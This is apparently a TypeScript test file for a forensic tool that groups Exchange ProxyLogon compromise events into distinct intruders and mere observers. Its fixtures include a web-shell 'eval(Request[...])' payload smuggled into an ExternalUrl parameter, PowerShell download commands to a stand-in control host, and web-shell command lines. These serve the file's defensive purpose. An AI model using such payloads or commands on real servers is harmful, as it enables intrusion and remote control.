import assert from "node:assert/strict"
import {test} from "node:test"
import fc from "fast-check"
import {at, type Event, intrudersOf, observersOf, whoDid} from "./support/suspects.ts"

const seed = 27065
console.log(`seed ${seed}`)

const worker = {parentImage: "C:\\Windows\\System32\\inetsrv\\w3wp.exe", parentProcessGuid: "{W}"}
const python = "python-requests/2.25.1"

test("an exploit, the page that it writes and its use from another address are one intruder", () => {
  const who = whoDid([
    at("2021-03-03T10:00:00Z MX1 httpproxy exploit", {
      client: "203.0.113.7",
      userAgent: python,
      requestId: "R1",
      anchor: "ServerInfo~a]@mx1:444/ecp/DDI/DDIService.svc/SetObject?#",
    }),
    at("2021-03-03T10:00:01Z MX1 windows-event exploit", {
      cmdlet: "Set-OabVirtualDirectory",
      parameters: "-ExternalUrl x",
    }),
    at("2021-03-03T10:00:02Z MX1 windows-event written", {file: "C:\\owa\\auth\\one.aspx", image: "System"}),
    at("2021-03-04T08:00:00Z MX1 iis-frontend used", {
      client: "198.51.100.9",
      userAgent: "antSword/v2.1",
      method: "POST",
      url: "/owa/auth/one.aspx",
    }),
    at("2021-03-04T08:00:01Z MX1 windows-event ran", {
      ...worker,
      image: "cmd.exe",
      commandLine: "cmd /c whoami",
      processGuid: "{C}",
    }),
  ])
  const [one, ...rest] = intrudersOf(who)
  assert.equal(rest.length, 0, who.says)
  assert.equal(one?.id, "A-001")
  assert.equal(one?.findings.length, 5)
  assert.deepEqual(one?.sources, ["198.51.100.9", "203.0.113.7"])
  assert.deepEqual(one?.agents, ["antSword/v2.1", python])
  assert.equal(one?.reached, "acted")
  assert.deepEqual(one?.campaigns, ["hafnium-proxylogon"])
  for (const reason of ["the same page", "a command and its request within seconds"])
    assert.ok(one?.joinedBy.includes(reason), one?.joinedBy.join("; "))
  assert.match(
    one?.says ?? "",
    /^A-001: an intruder on MX1 .* reached the stage “acted” \(5 findings, held together by/,
  )
})

const shellOf = (page: string, client: string, minute: string): readonly Event[] => [
  at(`2021-03-03T10:${minute}:00Z MX1 iis-frontend used`, {
    client,
    userAgent: `agent of ${client}`,
    method: "POST",
    url: `/owa/auth/${page}`,
  }),
  at(`2021-03-03T10:${minute}:01Z MX1 windows-event ran`, {
    ...worker,
    image: "C:\\Windows\\System32\\cmd.exe",
    commandLine: `cmd /c ${page.slice(0, 1)}`,
    processGuid: `{${page}}`,
  }),
]

test("two intruders with a shell each stay two, though one process of the web server runs both", () => {
  const who = whoDid([
    ...shellOf("one.aspx", "203.0.113.7", "00"),
    ...shellOf("two.aspx", "198.51.100.9", "20"),
    ...shellOf("one.aspx", "203.0.113.7", "40"),
  ])
  const [first, second, ...rest] = intrudersOf(who)
  assert.equal(rest.length, 0)
  assert.deepEqual(first?.sources, ["203.0.113.7"])
  assert.deepEqual(second?.sources, ["198.51.100.9"])
  const both = first?.findings.filter((id) => second?.findings.includes(id)) ?? []
  // One finding holds what the web server started in that hour: its events are of both.
  assert.ok(both.length === 1, `${both}`)
  assert.match(who.says, /^Two intruders are told apart and judged alone \(A-001 and A-002\)\./)
})

test("a program between two pages that were used at the same distance is nobody's", () => {
  const who = whoDid([
    at("2021-03-03T10:00:00Z MX1 iis-frontend used", {
      client: "203.0.113.7",
      method: "POST",
      url: "/owa/auth/one.aspx",
    }),
    at("2021-03-03T10:00:10Z MX1 windows-event ran", {...worker, image: "cmd.exe", commandLine: "cmd /c x"}),
    at("2021-03-03T10:00:20Z MX1 iis-frontend used", {
      client: "198.51.100.9",
      method: "POST",
      url: "/owa/auth/two.aspx",
    }),
  ])
  assert.equal(intrudersOf(who).length, 2)
  assert.equal(who.unassigned.length, 1)
})

test("who only asks for pages is an observer, also where the page is there", () => {
  const who = whoDid([
    ...shellOf("one.aspx", "203.0.113.7", "00"),
    at("2021-03-05T10:00:00Z MX1 iis-frontend there", {
      client: "192.0.2.77",
      userAgent: "curl/7.68.0",
      method: "GET",
      url: "/owa/auth/one.aspx",
      status: "200",
    }),
    at("2021-03-05T10:00:01Z MX1 iis-frontend there", {
      client: "192.0.2.77",
      userAgent: "curl/7.68.0",
      method: "GET",
      url: "/owa/auth/web.aspx",
      status: "302",
    }),
    at("2021-03-06T10:00:00Z MX1 iis-frontend tried", {
      client: "192.0.2.99",
      userAgent: "zgrab",
      method: "GET",
      url: "/owa/auth/help.aspx",
      status: "404",
    }),
  ])
  assert.equal(intrudersOf(who).length, 1)
  const observers = observersOf(who)
  assert.deepEqual(
    observers.map((o) => o.sources[0]),
    ["192.0.2.77", "192.0.2.99"],
  )
  for (const observer of observers) {
    assert.equal(observer.reached, "probed")
    assert.equal(observer.attributed, undefined)
    assert.match(observer.says, /nothing shows that they got in\.$/)
  }
})

test("the intruder's own look at its page is the intruder's", () => {
  const who = whoDid([
    ...shellOf("one.aspx", "203.0.113.7", "05"),
    at("2021-03-03T10:04:00Z MX1 iis-frontend there", {
      client: "203.0.113.7",
      userAgent: "agent of 203.0.113.7",
      method: "GET",
      url: "/owa/auth/one.aspx",
      status: "200",
    }),
  ])
  assert.equal(observersOf(who).length, 0)
  assert.equal(intrudersOf(who)[0]?.findings.length, 3)
})

const used = (time: string, server: string, client: string, page: string, agent = ""): Event =>
  at(`${time} ${server} iis-frontend used`, {
    client,
    method: "POST",
    url: `/owa/auth/${page}`,
    ...(agent === "" ? {} : {userAgent: agent}),
  })

const joins: readonly {
  readonly story: string
  readonly events: readonly Event[]
  readonly intruders: number
}[] = [
  {
    story: "one address with one user agent within a day is one intruder",
    events: [
      used("2021-03-03T10:00:00Z", "MX1", "203.0.113.7", "a.aspx", python),
      used("2021-03-04T09:00:00Z", "MX1", "203.0.113.7", "b.aspx", python),
    ],
    intruders: 1,
  },
  {
    story: "the same after more than a day is two",
    events: [
      used("2021-03-03T10:00:00Z", "MX1", "203.0.113.7", "a.aspx", python),
      used("2021-03-05T11:00:00Z", "MX1", "203.0.113.7", "b.aspx", python),
    ],
    intruders: 2,
  },
  {
    story: "one address with two user agents hours apart is two",
    events: [
      used("2021-03-03T10:00:00Z", "MX1", "203.0.113.7", "a.aspx", python),
      used("2021-03-03T15:00:00Z", "MX1", "203.0.113.7", "b.aspx", "curl/7"),
    ],
    intruders: 2,
  },
  {
    story: "one inner address, behind which may be a load balancer, joins nothing by itself",
    events: [
      used("2021-03-03T10:00:00Z", "MX1", "10.0.0.9", "a.aspx", python),
      used("2021-03-03T10:05:00Z", "MX1", "10.0.0.9", "b.aspx", "curl/7"),
    ],
    intruders: 2,
  },
  {
    story: "one address on two servers within an hour is one intruder",
    events: [
      used("2021-03-03T10:00:00Z", "MX1", "203.0.113.7", "a.aspx"),
      used("2021-03-03T10:20:00Z", "MX2", "203.0.113.7", "b.aspx"),
    ],
    intruders: 1,
  },
  {
    story: "one name of a page on two servers is two",
    events: [
      used("2021-03-03T10:00:00Z", "MX1", "203.0.113.7", "a.aspx"),
      used("2021-03-03T10:20:00Z", "MX2", "198.51.100.9", "a.aspx"),
    ],
    intruders: 2,
  },
  {
    story: "one control server joins two servers",
    events: ["MX1", "MX2"].map((mx, i) =>
      at(`2021-03-0${i + 3}T10:00:00Z ${mx} windows-event ran`, {
        image: "powershell.exe",
        commandLine: `powershell iwr http://c2.evil.example/${i}`,
        file: `C:\\owa\\auth\\p${i}.aspx`,
      }),
    ),
    intruders: 1,
  },
  {
    story: "a connection to one control server joins two servers, one to an inner host does not",
    events: [
      at("2021-03-03T10:00:00Z MX1 windows-event ran", {
        image: "a.exe",
        remote: "c2.evil.example",
        file: "C:\\owa\\auth\\p1.aspx",
      }),
      at("2021-03-04T10:00:00Z MX2 windows-event ran", {
        image: "a.exe",
        remote: "c2.evil.example",
        file: "C:\\owa\\auth\\p2.aspx",
      }),
      at("2021-03-05T10:00:00Z MX2 windows-event ran", {
        image: "b.exe",
        remote: "dc1.bank.local",
        file: "C:\\owa\\auth\\p3.aspx",
      }),
      at("2021-03-06T10:00:00Z MX3 windows-event ran", {
        image: "b.exe",
        remote: "dc1.bank.local",
        file: "C:\\owa\\auth\\p4.aspx",
      }),
    ],
    intruders: 3,
  },
  {
    story: "a host that everybody's programs ask joins nothing",
    events: ["MX1", "MX2"].map((mx, i) =>
      at(`2021-03-0${i + 3}T10:00:00Z ${mx} windows-event ran`, {
        image: "powershell.exe",
        commandLine: `powershell iwr https://raw.githubusercontent.com/x/${i}`,
        file: `C:\\owa\\auth\\p${i}.aspx`,
      }),
    ),
    intruders: 2,
  },
  {
    story: "one uncommon key of a shell joins two servers",
    events: ["MX1", "MX2"].map((mx, i) =>
      at(`2021-03-0${i + 3}T10:00:00Z ${mx} ecp-server exploit`, {
        parameters: `Set-OabVirtualDirectory.ExternalUrl='eval(Request["qKx7TpLw"])' p${i}.aspx`,
      }),
    ),
    intruders: 1,
  },
  {
    story: "the key of the public proof of concept joins nothing",
    events: ["MX1", "MX2"].map((mx, i) =>
      at(`2021-03-0${i + 3}T10:00:00Z ${mx} ecp-server exploit`, {
        parameters: `Set-OabVirtualDirectory.ExternalUrl='eval(Request["orange"])' p${i}.aspx`,
      }),
    ),
    intruders: 2,
  },
  {
    story: "one hash of a page joins two servers",
    events: ["MX1", "MX2"].map((mx, i) =>
      at(`- ${mx} web-file hash`, {file: `C:\\owa\\auth\\p${i}.aspx`, sha256: "ab".repeat(32)}),
    ),
    intruders: 1,
  },
  {
    story: "a process tree is one intruder, and never grows through the web server",
    events: [
      at("2021-03-03T10:00:00Z MX1 windows-event ran", {
        image: "cmd.exe",
        processGuid: "{1}",
        parentProcessGuid: "{W}",
        parentImage: "w3wp.exe",
        file: "C:\\owa\\auth\\a.aspx",
      }),
      at("2021-03-03T12:00:00Z MX1 windows-event ran", {
        image: "whoami.exe",
        processGuid: "{2}",
        parentProcessGuid: "{1}",
        parentImage: "cmd.exe",
      }),
      at("2021-03-03T14:00:00Z MX1 windows-event ran", {
        image: "cmd.exe",
        processGuid: "{3}",
        parentProcessGuid: "{W}",
        parentImage: "w3wp.exe",
        file: "C:\\owa\\auth\\b.aspx",
      }),
    ],
    intruders: 2,
  },
]

for (const {story, events, intruders} of joins) {
  test(story, () => {
    const who = whoDid(events)
    assert.equal(intrudersOf(who).length, intruders, who.activities.map((a) => a.says).join("\n"))
  })
}

test("one finding without client, page or partner is tied to no activity", () => {
  const who = whoDid([at("2021-03-03T10:00:00Z MX1 windows-event ran", {image: "x.exe", commandLine: "x"})])
  assert.deepEqual(who.activities, [])
  assert.equal(who.unassigned.length, 1)
})

test("an administrator with a name is no observer", () => {
  const who = whoDid([
    at("2021-03-03T10:00:00Z MX1 rps-cmdlet weak", {
      client: "10.0.0.5",
      account: "CORP\\adm",
      cmdlet: "Get-Mailbox",
    }),
  ])
  assert.deepEqual(who.activities, [])
})

const minute = fc.integer({min: 0, max: 59}).map((m) => `2021-03-03T10:${String(m).padStart(2, "0")}:00Z`)
const someEvent = fc
  .record({
    time: minute,
    client: fc.integer({min: 1, max: 5}),
    page: fc.constantFrom("a", "b", "c"),
    kind: fc.constantFrom("used", "there", "tried", "ran", "written"),
  })
  .map(({time, client, page, kind}) => {
    if (kind === "ran")
      return at(`${time} MX1 windows-event ran`, {
        ...worker,
        image: "cmd.exe",
        commandLine: `cmd /c ${page}${client}`,
      })
    if (kind === "written")
      return at(`${time} MX1 windows-event written`, {file: `C:\\owa\\auth\\${page}.aspx`})
    const method = kind === "used" ? "POST" : "GET"
    return at(`${time} MX1 iis-frontend ${kind}`, {
      client: `203.0.113.${client}`,
      method,
      url: `/owa/auth/${page}.aspx`,
      status: kind === "tried" ? "404" : "200",
    })
  })

test("the order of events does not matter, and what is unassigned is in no activity", () => {
  fc.assert(
    fc.property(fc.array(someEvent, {maxLength: 14}), fc.infiniteStream(fc.nat()), (events, keys) => {
      const numbered = events.map(
        (event, i): Event =>
          () =>
            event(i),
      )
      const shuffled = numbered
        .map((event) => ({event, key: keys.next().value}))
        .sort((a, b) => a.key - b.key)
        .map(({event}) => event)
      const [one, two] = [whoDid(numbered), whoDid(shuffled)]
      assert.deepEqual(two, one)
      const listed = new Set(one.activities.flatMap((a) => a.findings))
      for (const id of one.unassigned) assert.ok(!listed.has(id))
    }),
    {seed, numRuns: 150},
  )
})

test("time alone joins nothing: strangers at the same second stay strangers", () => {
  fc.assert(
    fc.property(fc.integer({min: 2, max: 12}), minute, (count, time) => {
      const events = Array.from({length: count}, (_, i) =>
        used(time, "MX1", `203.0.113.${i + 1}`, `page${i}.aspx`, `agent ${i}`),
      )
      assert.equal(intrudersOf(whoDid(events)).length, count)
    }),
    {seed, numRuns: 40},
  )
})
